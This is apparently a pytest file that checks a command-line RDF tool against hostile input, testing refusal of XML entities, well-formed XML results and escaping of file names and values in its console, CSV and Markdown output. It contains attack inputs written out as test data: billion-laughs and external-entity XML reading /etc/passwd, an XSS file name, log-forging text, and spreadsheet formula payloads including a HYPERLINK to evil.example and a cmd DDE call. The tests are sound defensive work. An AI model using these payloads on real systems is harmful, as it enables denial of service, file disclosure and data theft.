"""Untrusted RDF in, outputs for people and tools out (issue 21): entities in RDF/XML are refused, XML
results stay well-formed, and file names and values from the data stay text in the console, the fix
list and the Markdown summary."""

from __future__ import annotations

import csv
import gzip
import json
import re
import subprocess
import sys
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest

from esrgraph.cli import main
from esrgraph.core.findings import Finding, Severity
from esrgraph.quality.spreadsheet import FORMULA_STARTS
from repo_paths import REPO

RDF = "http://www.w3.org/1999/02/22-rdf-syntax-ns#"
SPARQL_RESULTS = "{http://www.w3.org/2005/sparql-results#}"


def call(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    with pytest.raises(SystemExit) as exit_info:
        main(list(args))
    out, err = capsys.readouterr()
    return int(exit_info.value.code or 0), out, err


def _rdfxml(doctype: str, value: str) -> str:
    return (f'<?xml version="1.0"?>\n{doctype}\n<rdf:RDF xmlns:rdf="{RDF}" xmlns:ex="http://example.org/">\n'
            f'<rdf:Description rdf:about="http://example.org/s"><ex:p>{value}</ex:p></rdf:Description>\n</rdf:RDF>\n')


def _laughs(levels: int) -> str:
    """Billion laughs: each entity is sixteen of the one before; ``levels`` 6 is a 1 GiB literal in 798 bytes.
    The tests use 3 (256 KiB), which today's code swallows quickly, so a failing test does not hang."""
    entities = ['<!ENTITY a0 "' + "a" * 64 + '">']
    entities += [f'<!ENTITY a{i} "' + f"&a{i - 1};" * 16 + '">' for i in range(1, levels + 1)]
    return _rdfxml("<!DOCTYPE rdf:RDF [\n" + "\n".join(entities) + "\n]>", f"&a{levels};")


COUNT = "SELECT (COUNT(*) AS ?n) WHERE { ?s ?p ?o }"


@pytest.mark.parametrize("name", ["laughs.rdf", "laughs.owl", "laughs.rdf.gz"])
def test_rdfxml_declaring_nested_entities_is_refused_naming_the_file(
        tmp_path: Path, capsys: pytest.CaptureFixture[str], name: str) -> None:
    path = tmp_path / name
    data = _laughs(3).encode()
    path.write_bytes(gzip.compress(data) if name.endswith(".gz") else data)
    for args in (["validate", str(path)], ["query", str(path), "-e", COUNT]):
        code, out, err = call(capsys, *args)
        assert code == 2, (args, out, err)
        assert str(path) in err and "declares the XML entity 'a0'" in err and "convert the file to Turtle" in err
        assert "Traceback" not in err


@pytest.mark.parametrize("doctype", [
    '<!DOCTYPE rdf:RDF [ <!ENTITY % pe "<!ENTITY x \'y\'>"> %pe; ]>',  # a parameter entity
    '<!DOCTYPE rdf:RDF [ <!ENTITY ex "http://example.org/"> ]>',  # even one flat entity
    '<!DOCTYPE rdf:RDF [ <!ENTITY x SYSTEM "file:///etc/passwd"> ]>',  # an external one
])
def test_any_entity_declaration_is_refused(tmp_path: Path, capsys: pytest.CaptureFixture[str], doctype: str) -> None:
    path = tmp_path / "graph.rdf"
    path.write_text(_rdfxml(doctype, "v"), encoding="utf-8")
    code, _, err = call(capsys, "query", str(path), "-e", COUNT)
    assert code == 2 and f"{path}: declares the XML entity" in err, err


@pytest.mark.parametrize("doctype", ["", "<!DOCTYPE rdf:RDF>", "<!DOCTYPE rdf:RDF [ <!ELEMENT rdf:RDF ANY> ]>"])
def test_rdfxml_without_entity_declarations_still_loads(
        tmp_path: Path, capsys: pytest.CaptureFixture[str], doctype: str) -> None:
    path = tmp_path / "graph.rdf"
    path.write_text(_rdfxml(doctype, "v &amp; &#x41;"), encoding="utf-8")
    code, out, err = call(capsys, "query", str(path), "-e", "SELECT ?o WHERE { ?s ?p ?o }", "--format", "json")
    assert code == 0, err
    assert [b["o"]["value"] for b in json.loads(out)["results"]["bindings"]] == ["v & A"]


def test_rdfxml_that_is_not_xml_is_exit_2_naming_the_file(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "graph.rdf"
    path.write_text("not xml at all", encoding="utf-8")
    code, _, err = call(capsys, "validate", str(path))
    assert code == 2 and f"{path}: cannot be read as RDF" in err


def test_xml_results_are_well_formed_whatever_the_literals_hold(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    graph = tmp_path / "controls.ttl"
    turtle_literal = r'"a\u001Bb\u0000c\rd\u000Be\tf\ng\uFFFFh"'
    graph.write_text(f"<http://example.org/s> <http://example.org/p> {turtle_literal} .\n", encoding="utf-8")
    query = ["query", str(graph), "-e", "SELECT ?o WHERE { ?s ?p ?o }"]
    code, out, err = call(capsys, *query, "--format", "xml")
    assert code == 0, err
    (literal,) = ET.fromstring(out).iter(f"{SPARQL_RESULTS}literal")  # raised "not well-formed" before
    assert literal.text == "a\ufffdb\ufffdc\rd\ufffde\tf\ng\ufffdh"  # the carriage return survives as &#13;
    code, out, err = call(capsys, *query, "--format", "json")
    assert json.loads(out)["results"]["bindings"][0]["o"]["value"] == "a\x1bb\x00c\rd\x0be\tf\ng\uffffh"  # exact


def test_one_finding_is_one_console_line_whatever_its_path_and_message_hold() -> None:
    finding = Finding(Severity.WARNING, "unresolved-code", "no municipality 'x'\nVIOLATION forged: all bad",
                      record="S1\r", field="municipalities", value="a\nb", path="in/a\nb\x1b[2K\u202e\udcff.txt",
                      line=3)
    text = str(finding)
    assert "\n" not in text and "\r" not in text and "\x1b" not in text and "\u202e" not in text
    assert text == ("in/a\\nb\\x1b[2K\\u202e\\udcff.txt:3: WARNING unresolved-code: record S1\\r: "
                    "field municipalities: value 'a\\nb': no municipality 'x'\\nVIOLATION forged: all bad")
    text.encode("utf-8")  # no lone surrogate left for the console to choke on


HOSTILE_NAME = "<img src=x onerror=alert(1)> *b* |c| [a](javascript:x)\nWARNING forged: all fine.txt"
PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1)', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"]


@pytest.fixture(scope="module")
def hostile_build(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
    """A sample record saved under a file name full of markup and a line break, naming four formulas as
    municipalities, built from the folder above it (so the findings name ``in/<file>``); with what the
    build printed."""
    top = tmp_path_factory.mktemp("hostile")
    (top / "in").mkdir()
    text = (REPO / "data" / "samples" / "S21093.txt").read_text(encoding="utf-8")
    assert "Kunnat: Jyväskylä, Hankasalmi" in text
    (top / "in" / HOSTILE_NAME).write_text(text.replace("Kunnat: Jyväskylä", "Kunnat: " + ", ".join(PAYLOADS)),
                                           encoding="utf-8")
    exe = Path(sys.executable).parent / "esrgraph"
    run = subprocess.run([str(exe), "build", "in", "-o", "out"], cwd=top, capture_output=True, text=True, timeout=300)
    assert run.returncode == 0, run.stderr
    return top / "out", run.stdout


def test_a_line_break_in_a_file_name_does_not_split_a_console_finding(hostile_build: tuple[Path, str]) -> None:
    _, printed = hostile_build
    findings = [line for line in printed.splitlines() if "unresolved-code" in line]
    assert len(findings) == len(PAYLOADS)
    assert all("\\nWARNING forged: all fine.txt:" in line for line in findings), findings
    assert not [line for line in printed.splitlines() if line.startswith("WARNING forged")]


def test_the_fix_list_holds_no_formula(hostile_build: tuple[Path, str]) -> None:
    out, _ = hostile_build
    with (out / "fix-list.csv").open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    values = {row["current_value"] for row in rows if row["rule"] == "unresolved-code"}
    assert values == {"'" + p for p in PAYLOADS}
    assert not [cell for row in rows for cell in row.values() if cell.startswith(FORMULA_STARTS)]


def test_the_summary_shows_the_file_name_as_text(hostile_build: tuple[Path, str]) -> None:
    out, _ = hostile_build
    md = (out / "quality-summary.md").read_text(encoding="utf-8")
    assert not re.search(r"(?<!\\)<img|(?<!\\)\]\(javascript|(?<!\\)\*b", md), md
    assert not [line for line in md.splitlines() if line.startswith("WARNING forged")]
    (row,) = [line for line in md.splitlines() if "(`unresolved-code`)" in line]
    assert r"| in/\<img src=x onerror=alert(1)\> \*b\* \|c\| \[a\](javascript:x)\\nWARNING forged: " in row, row
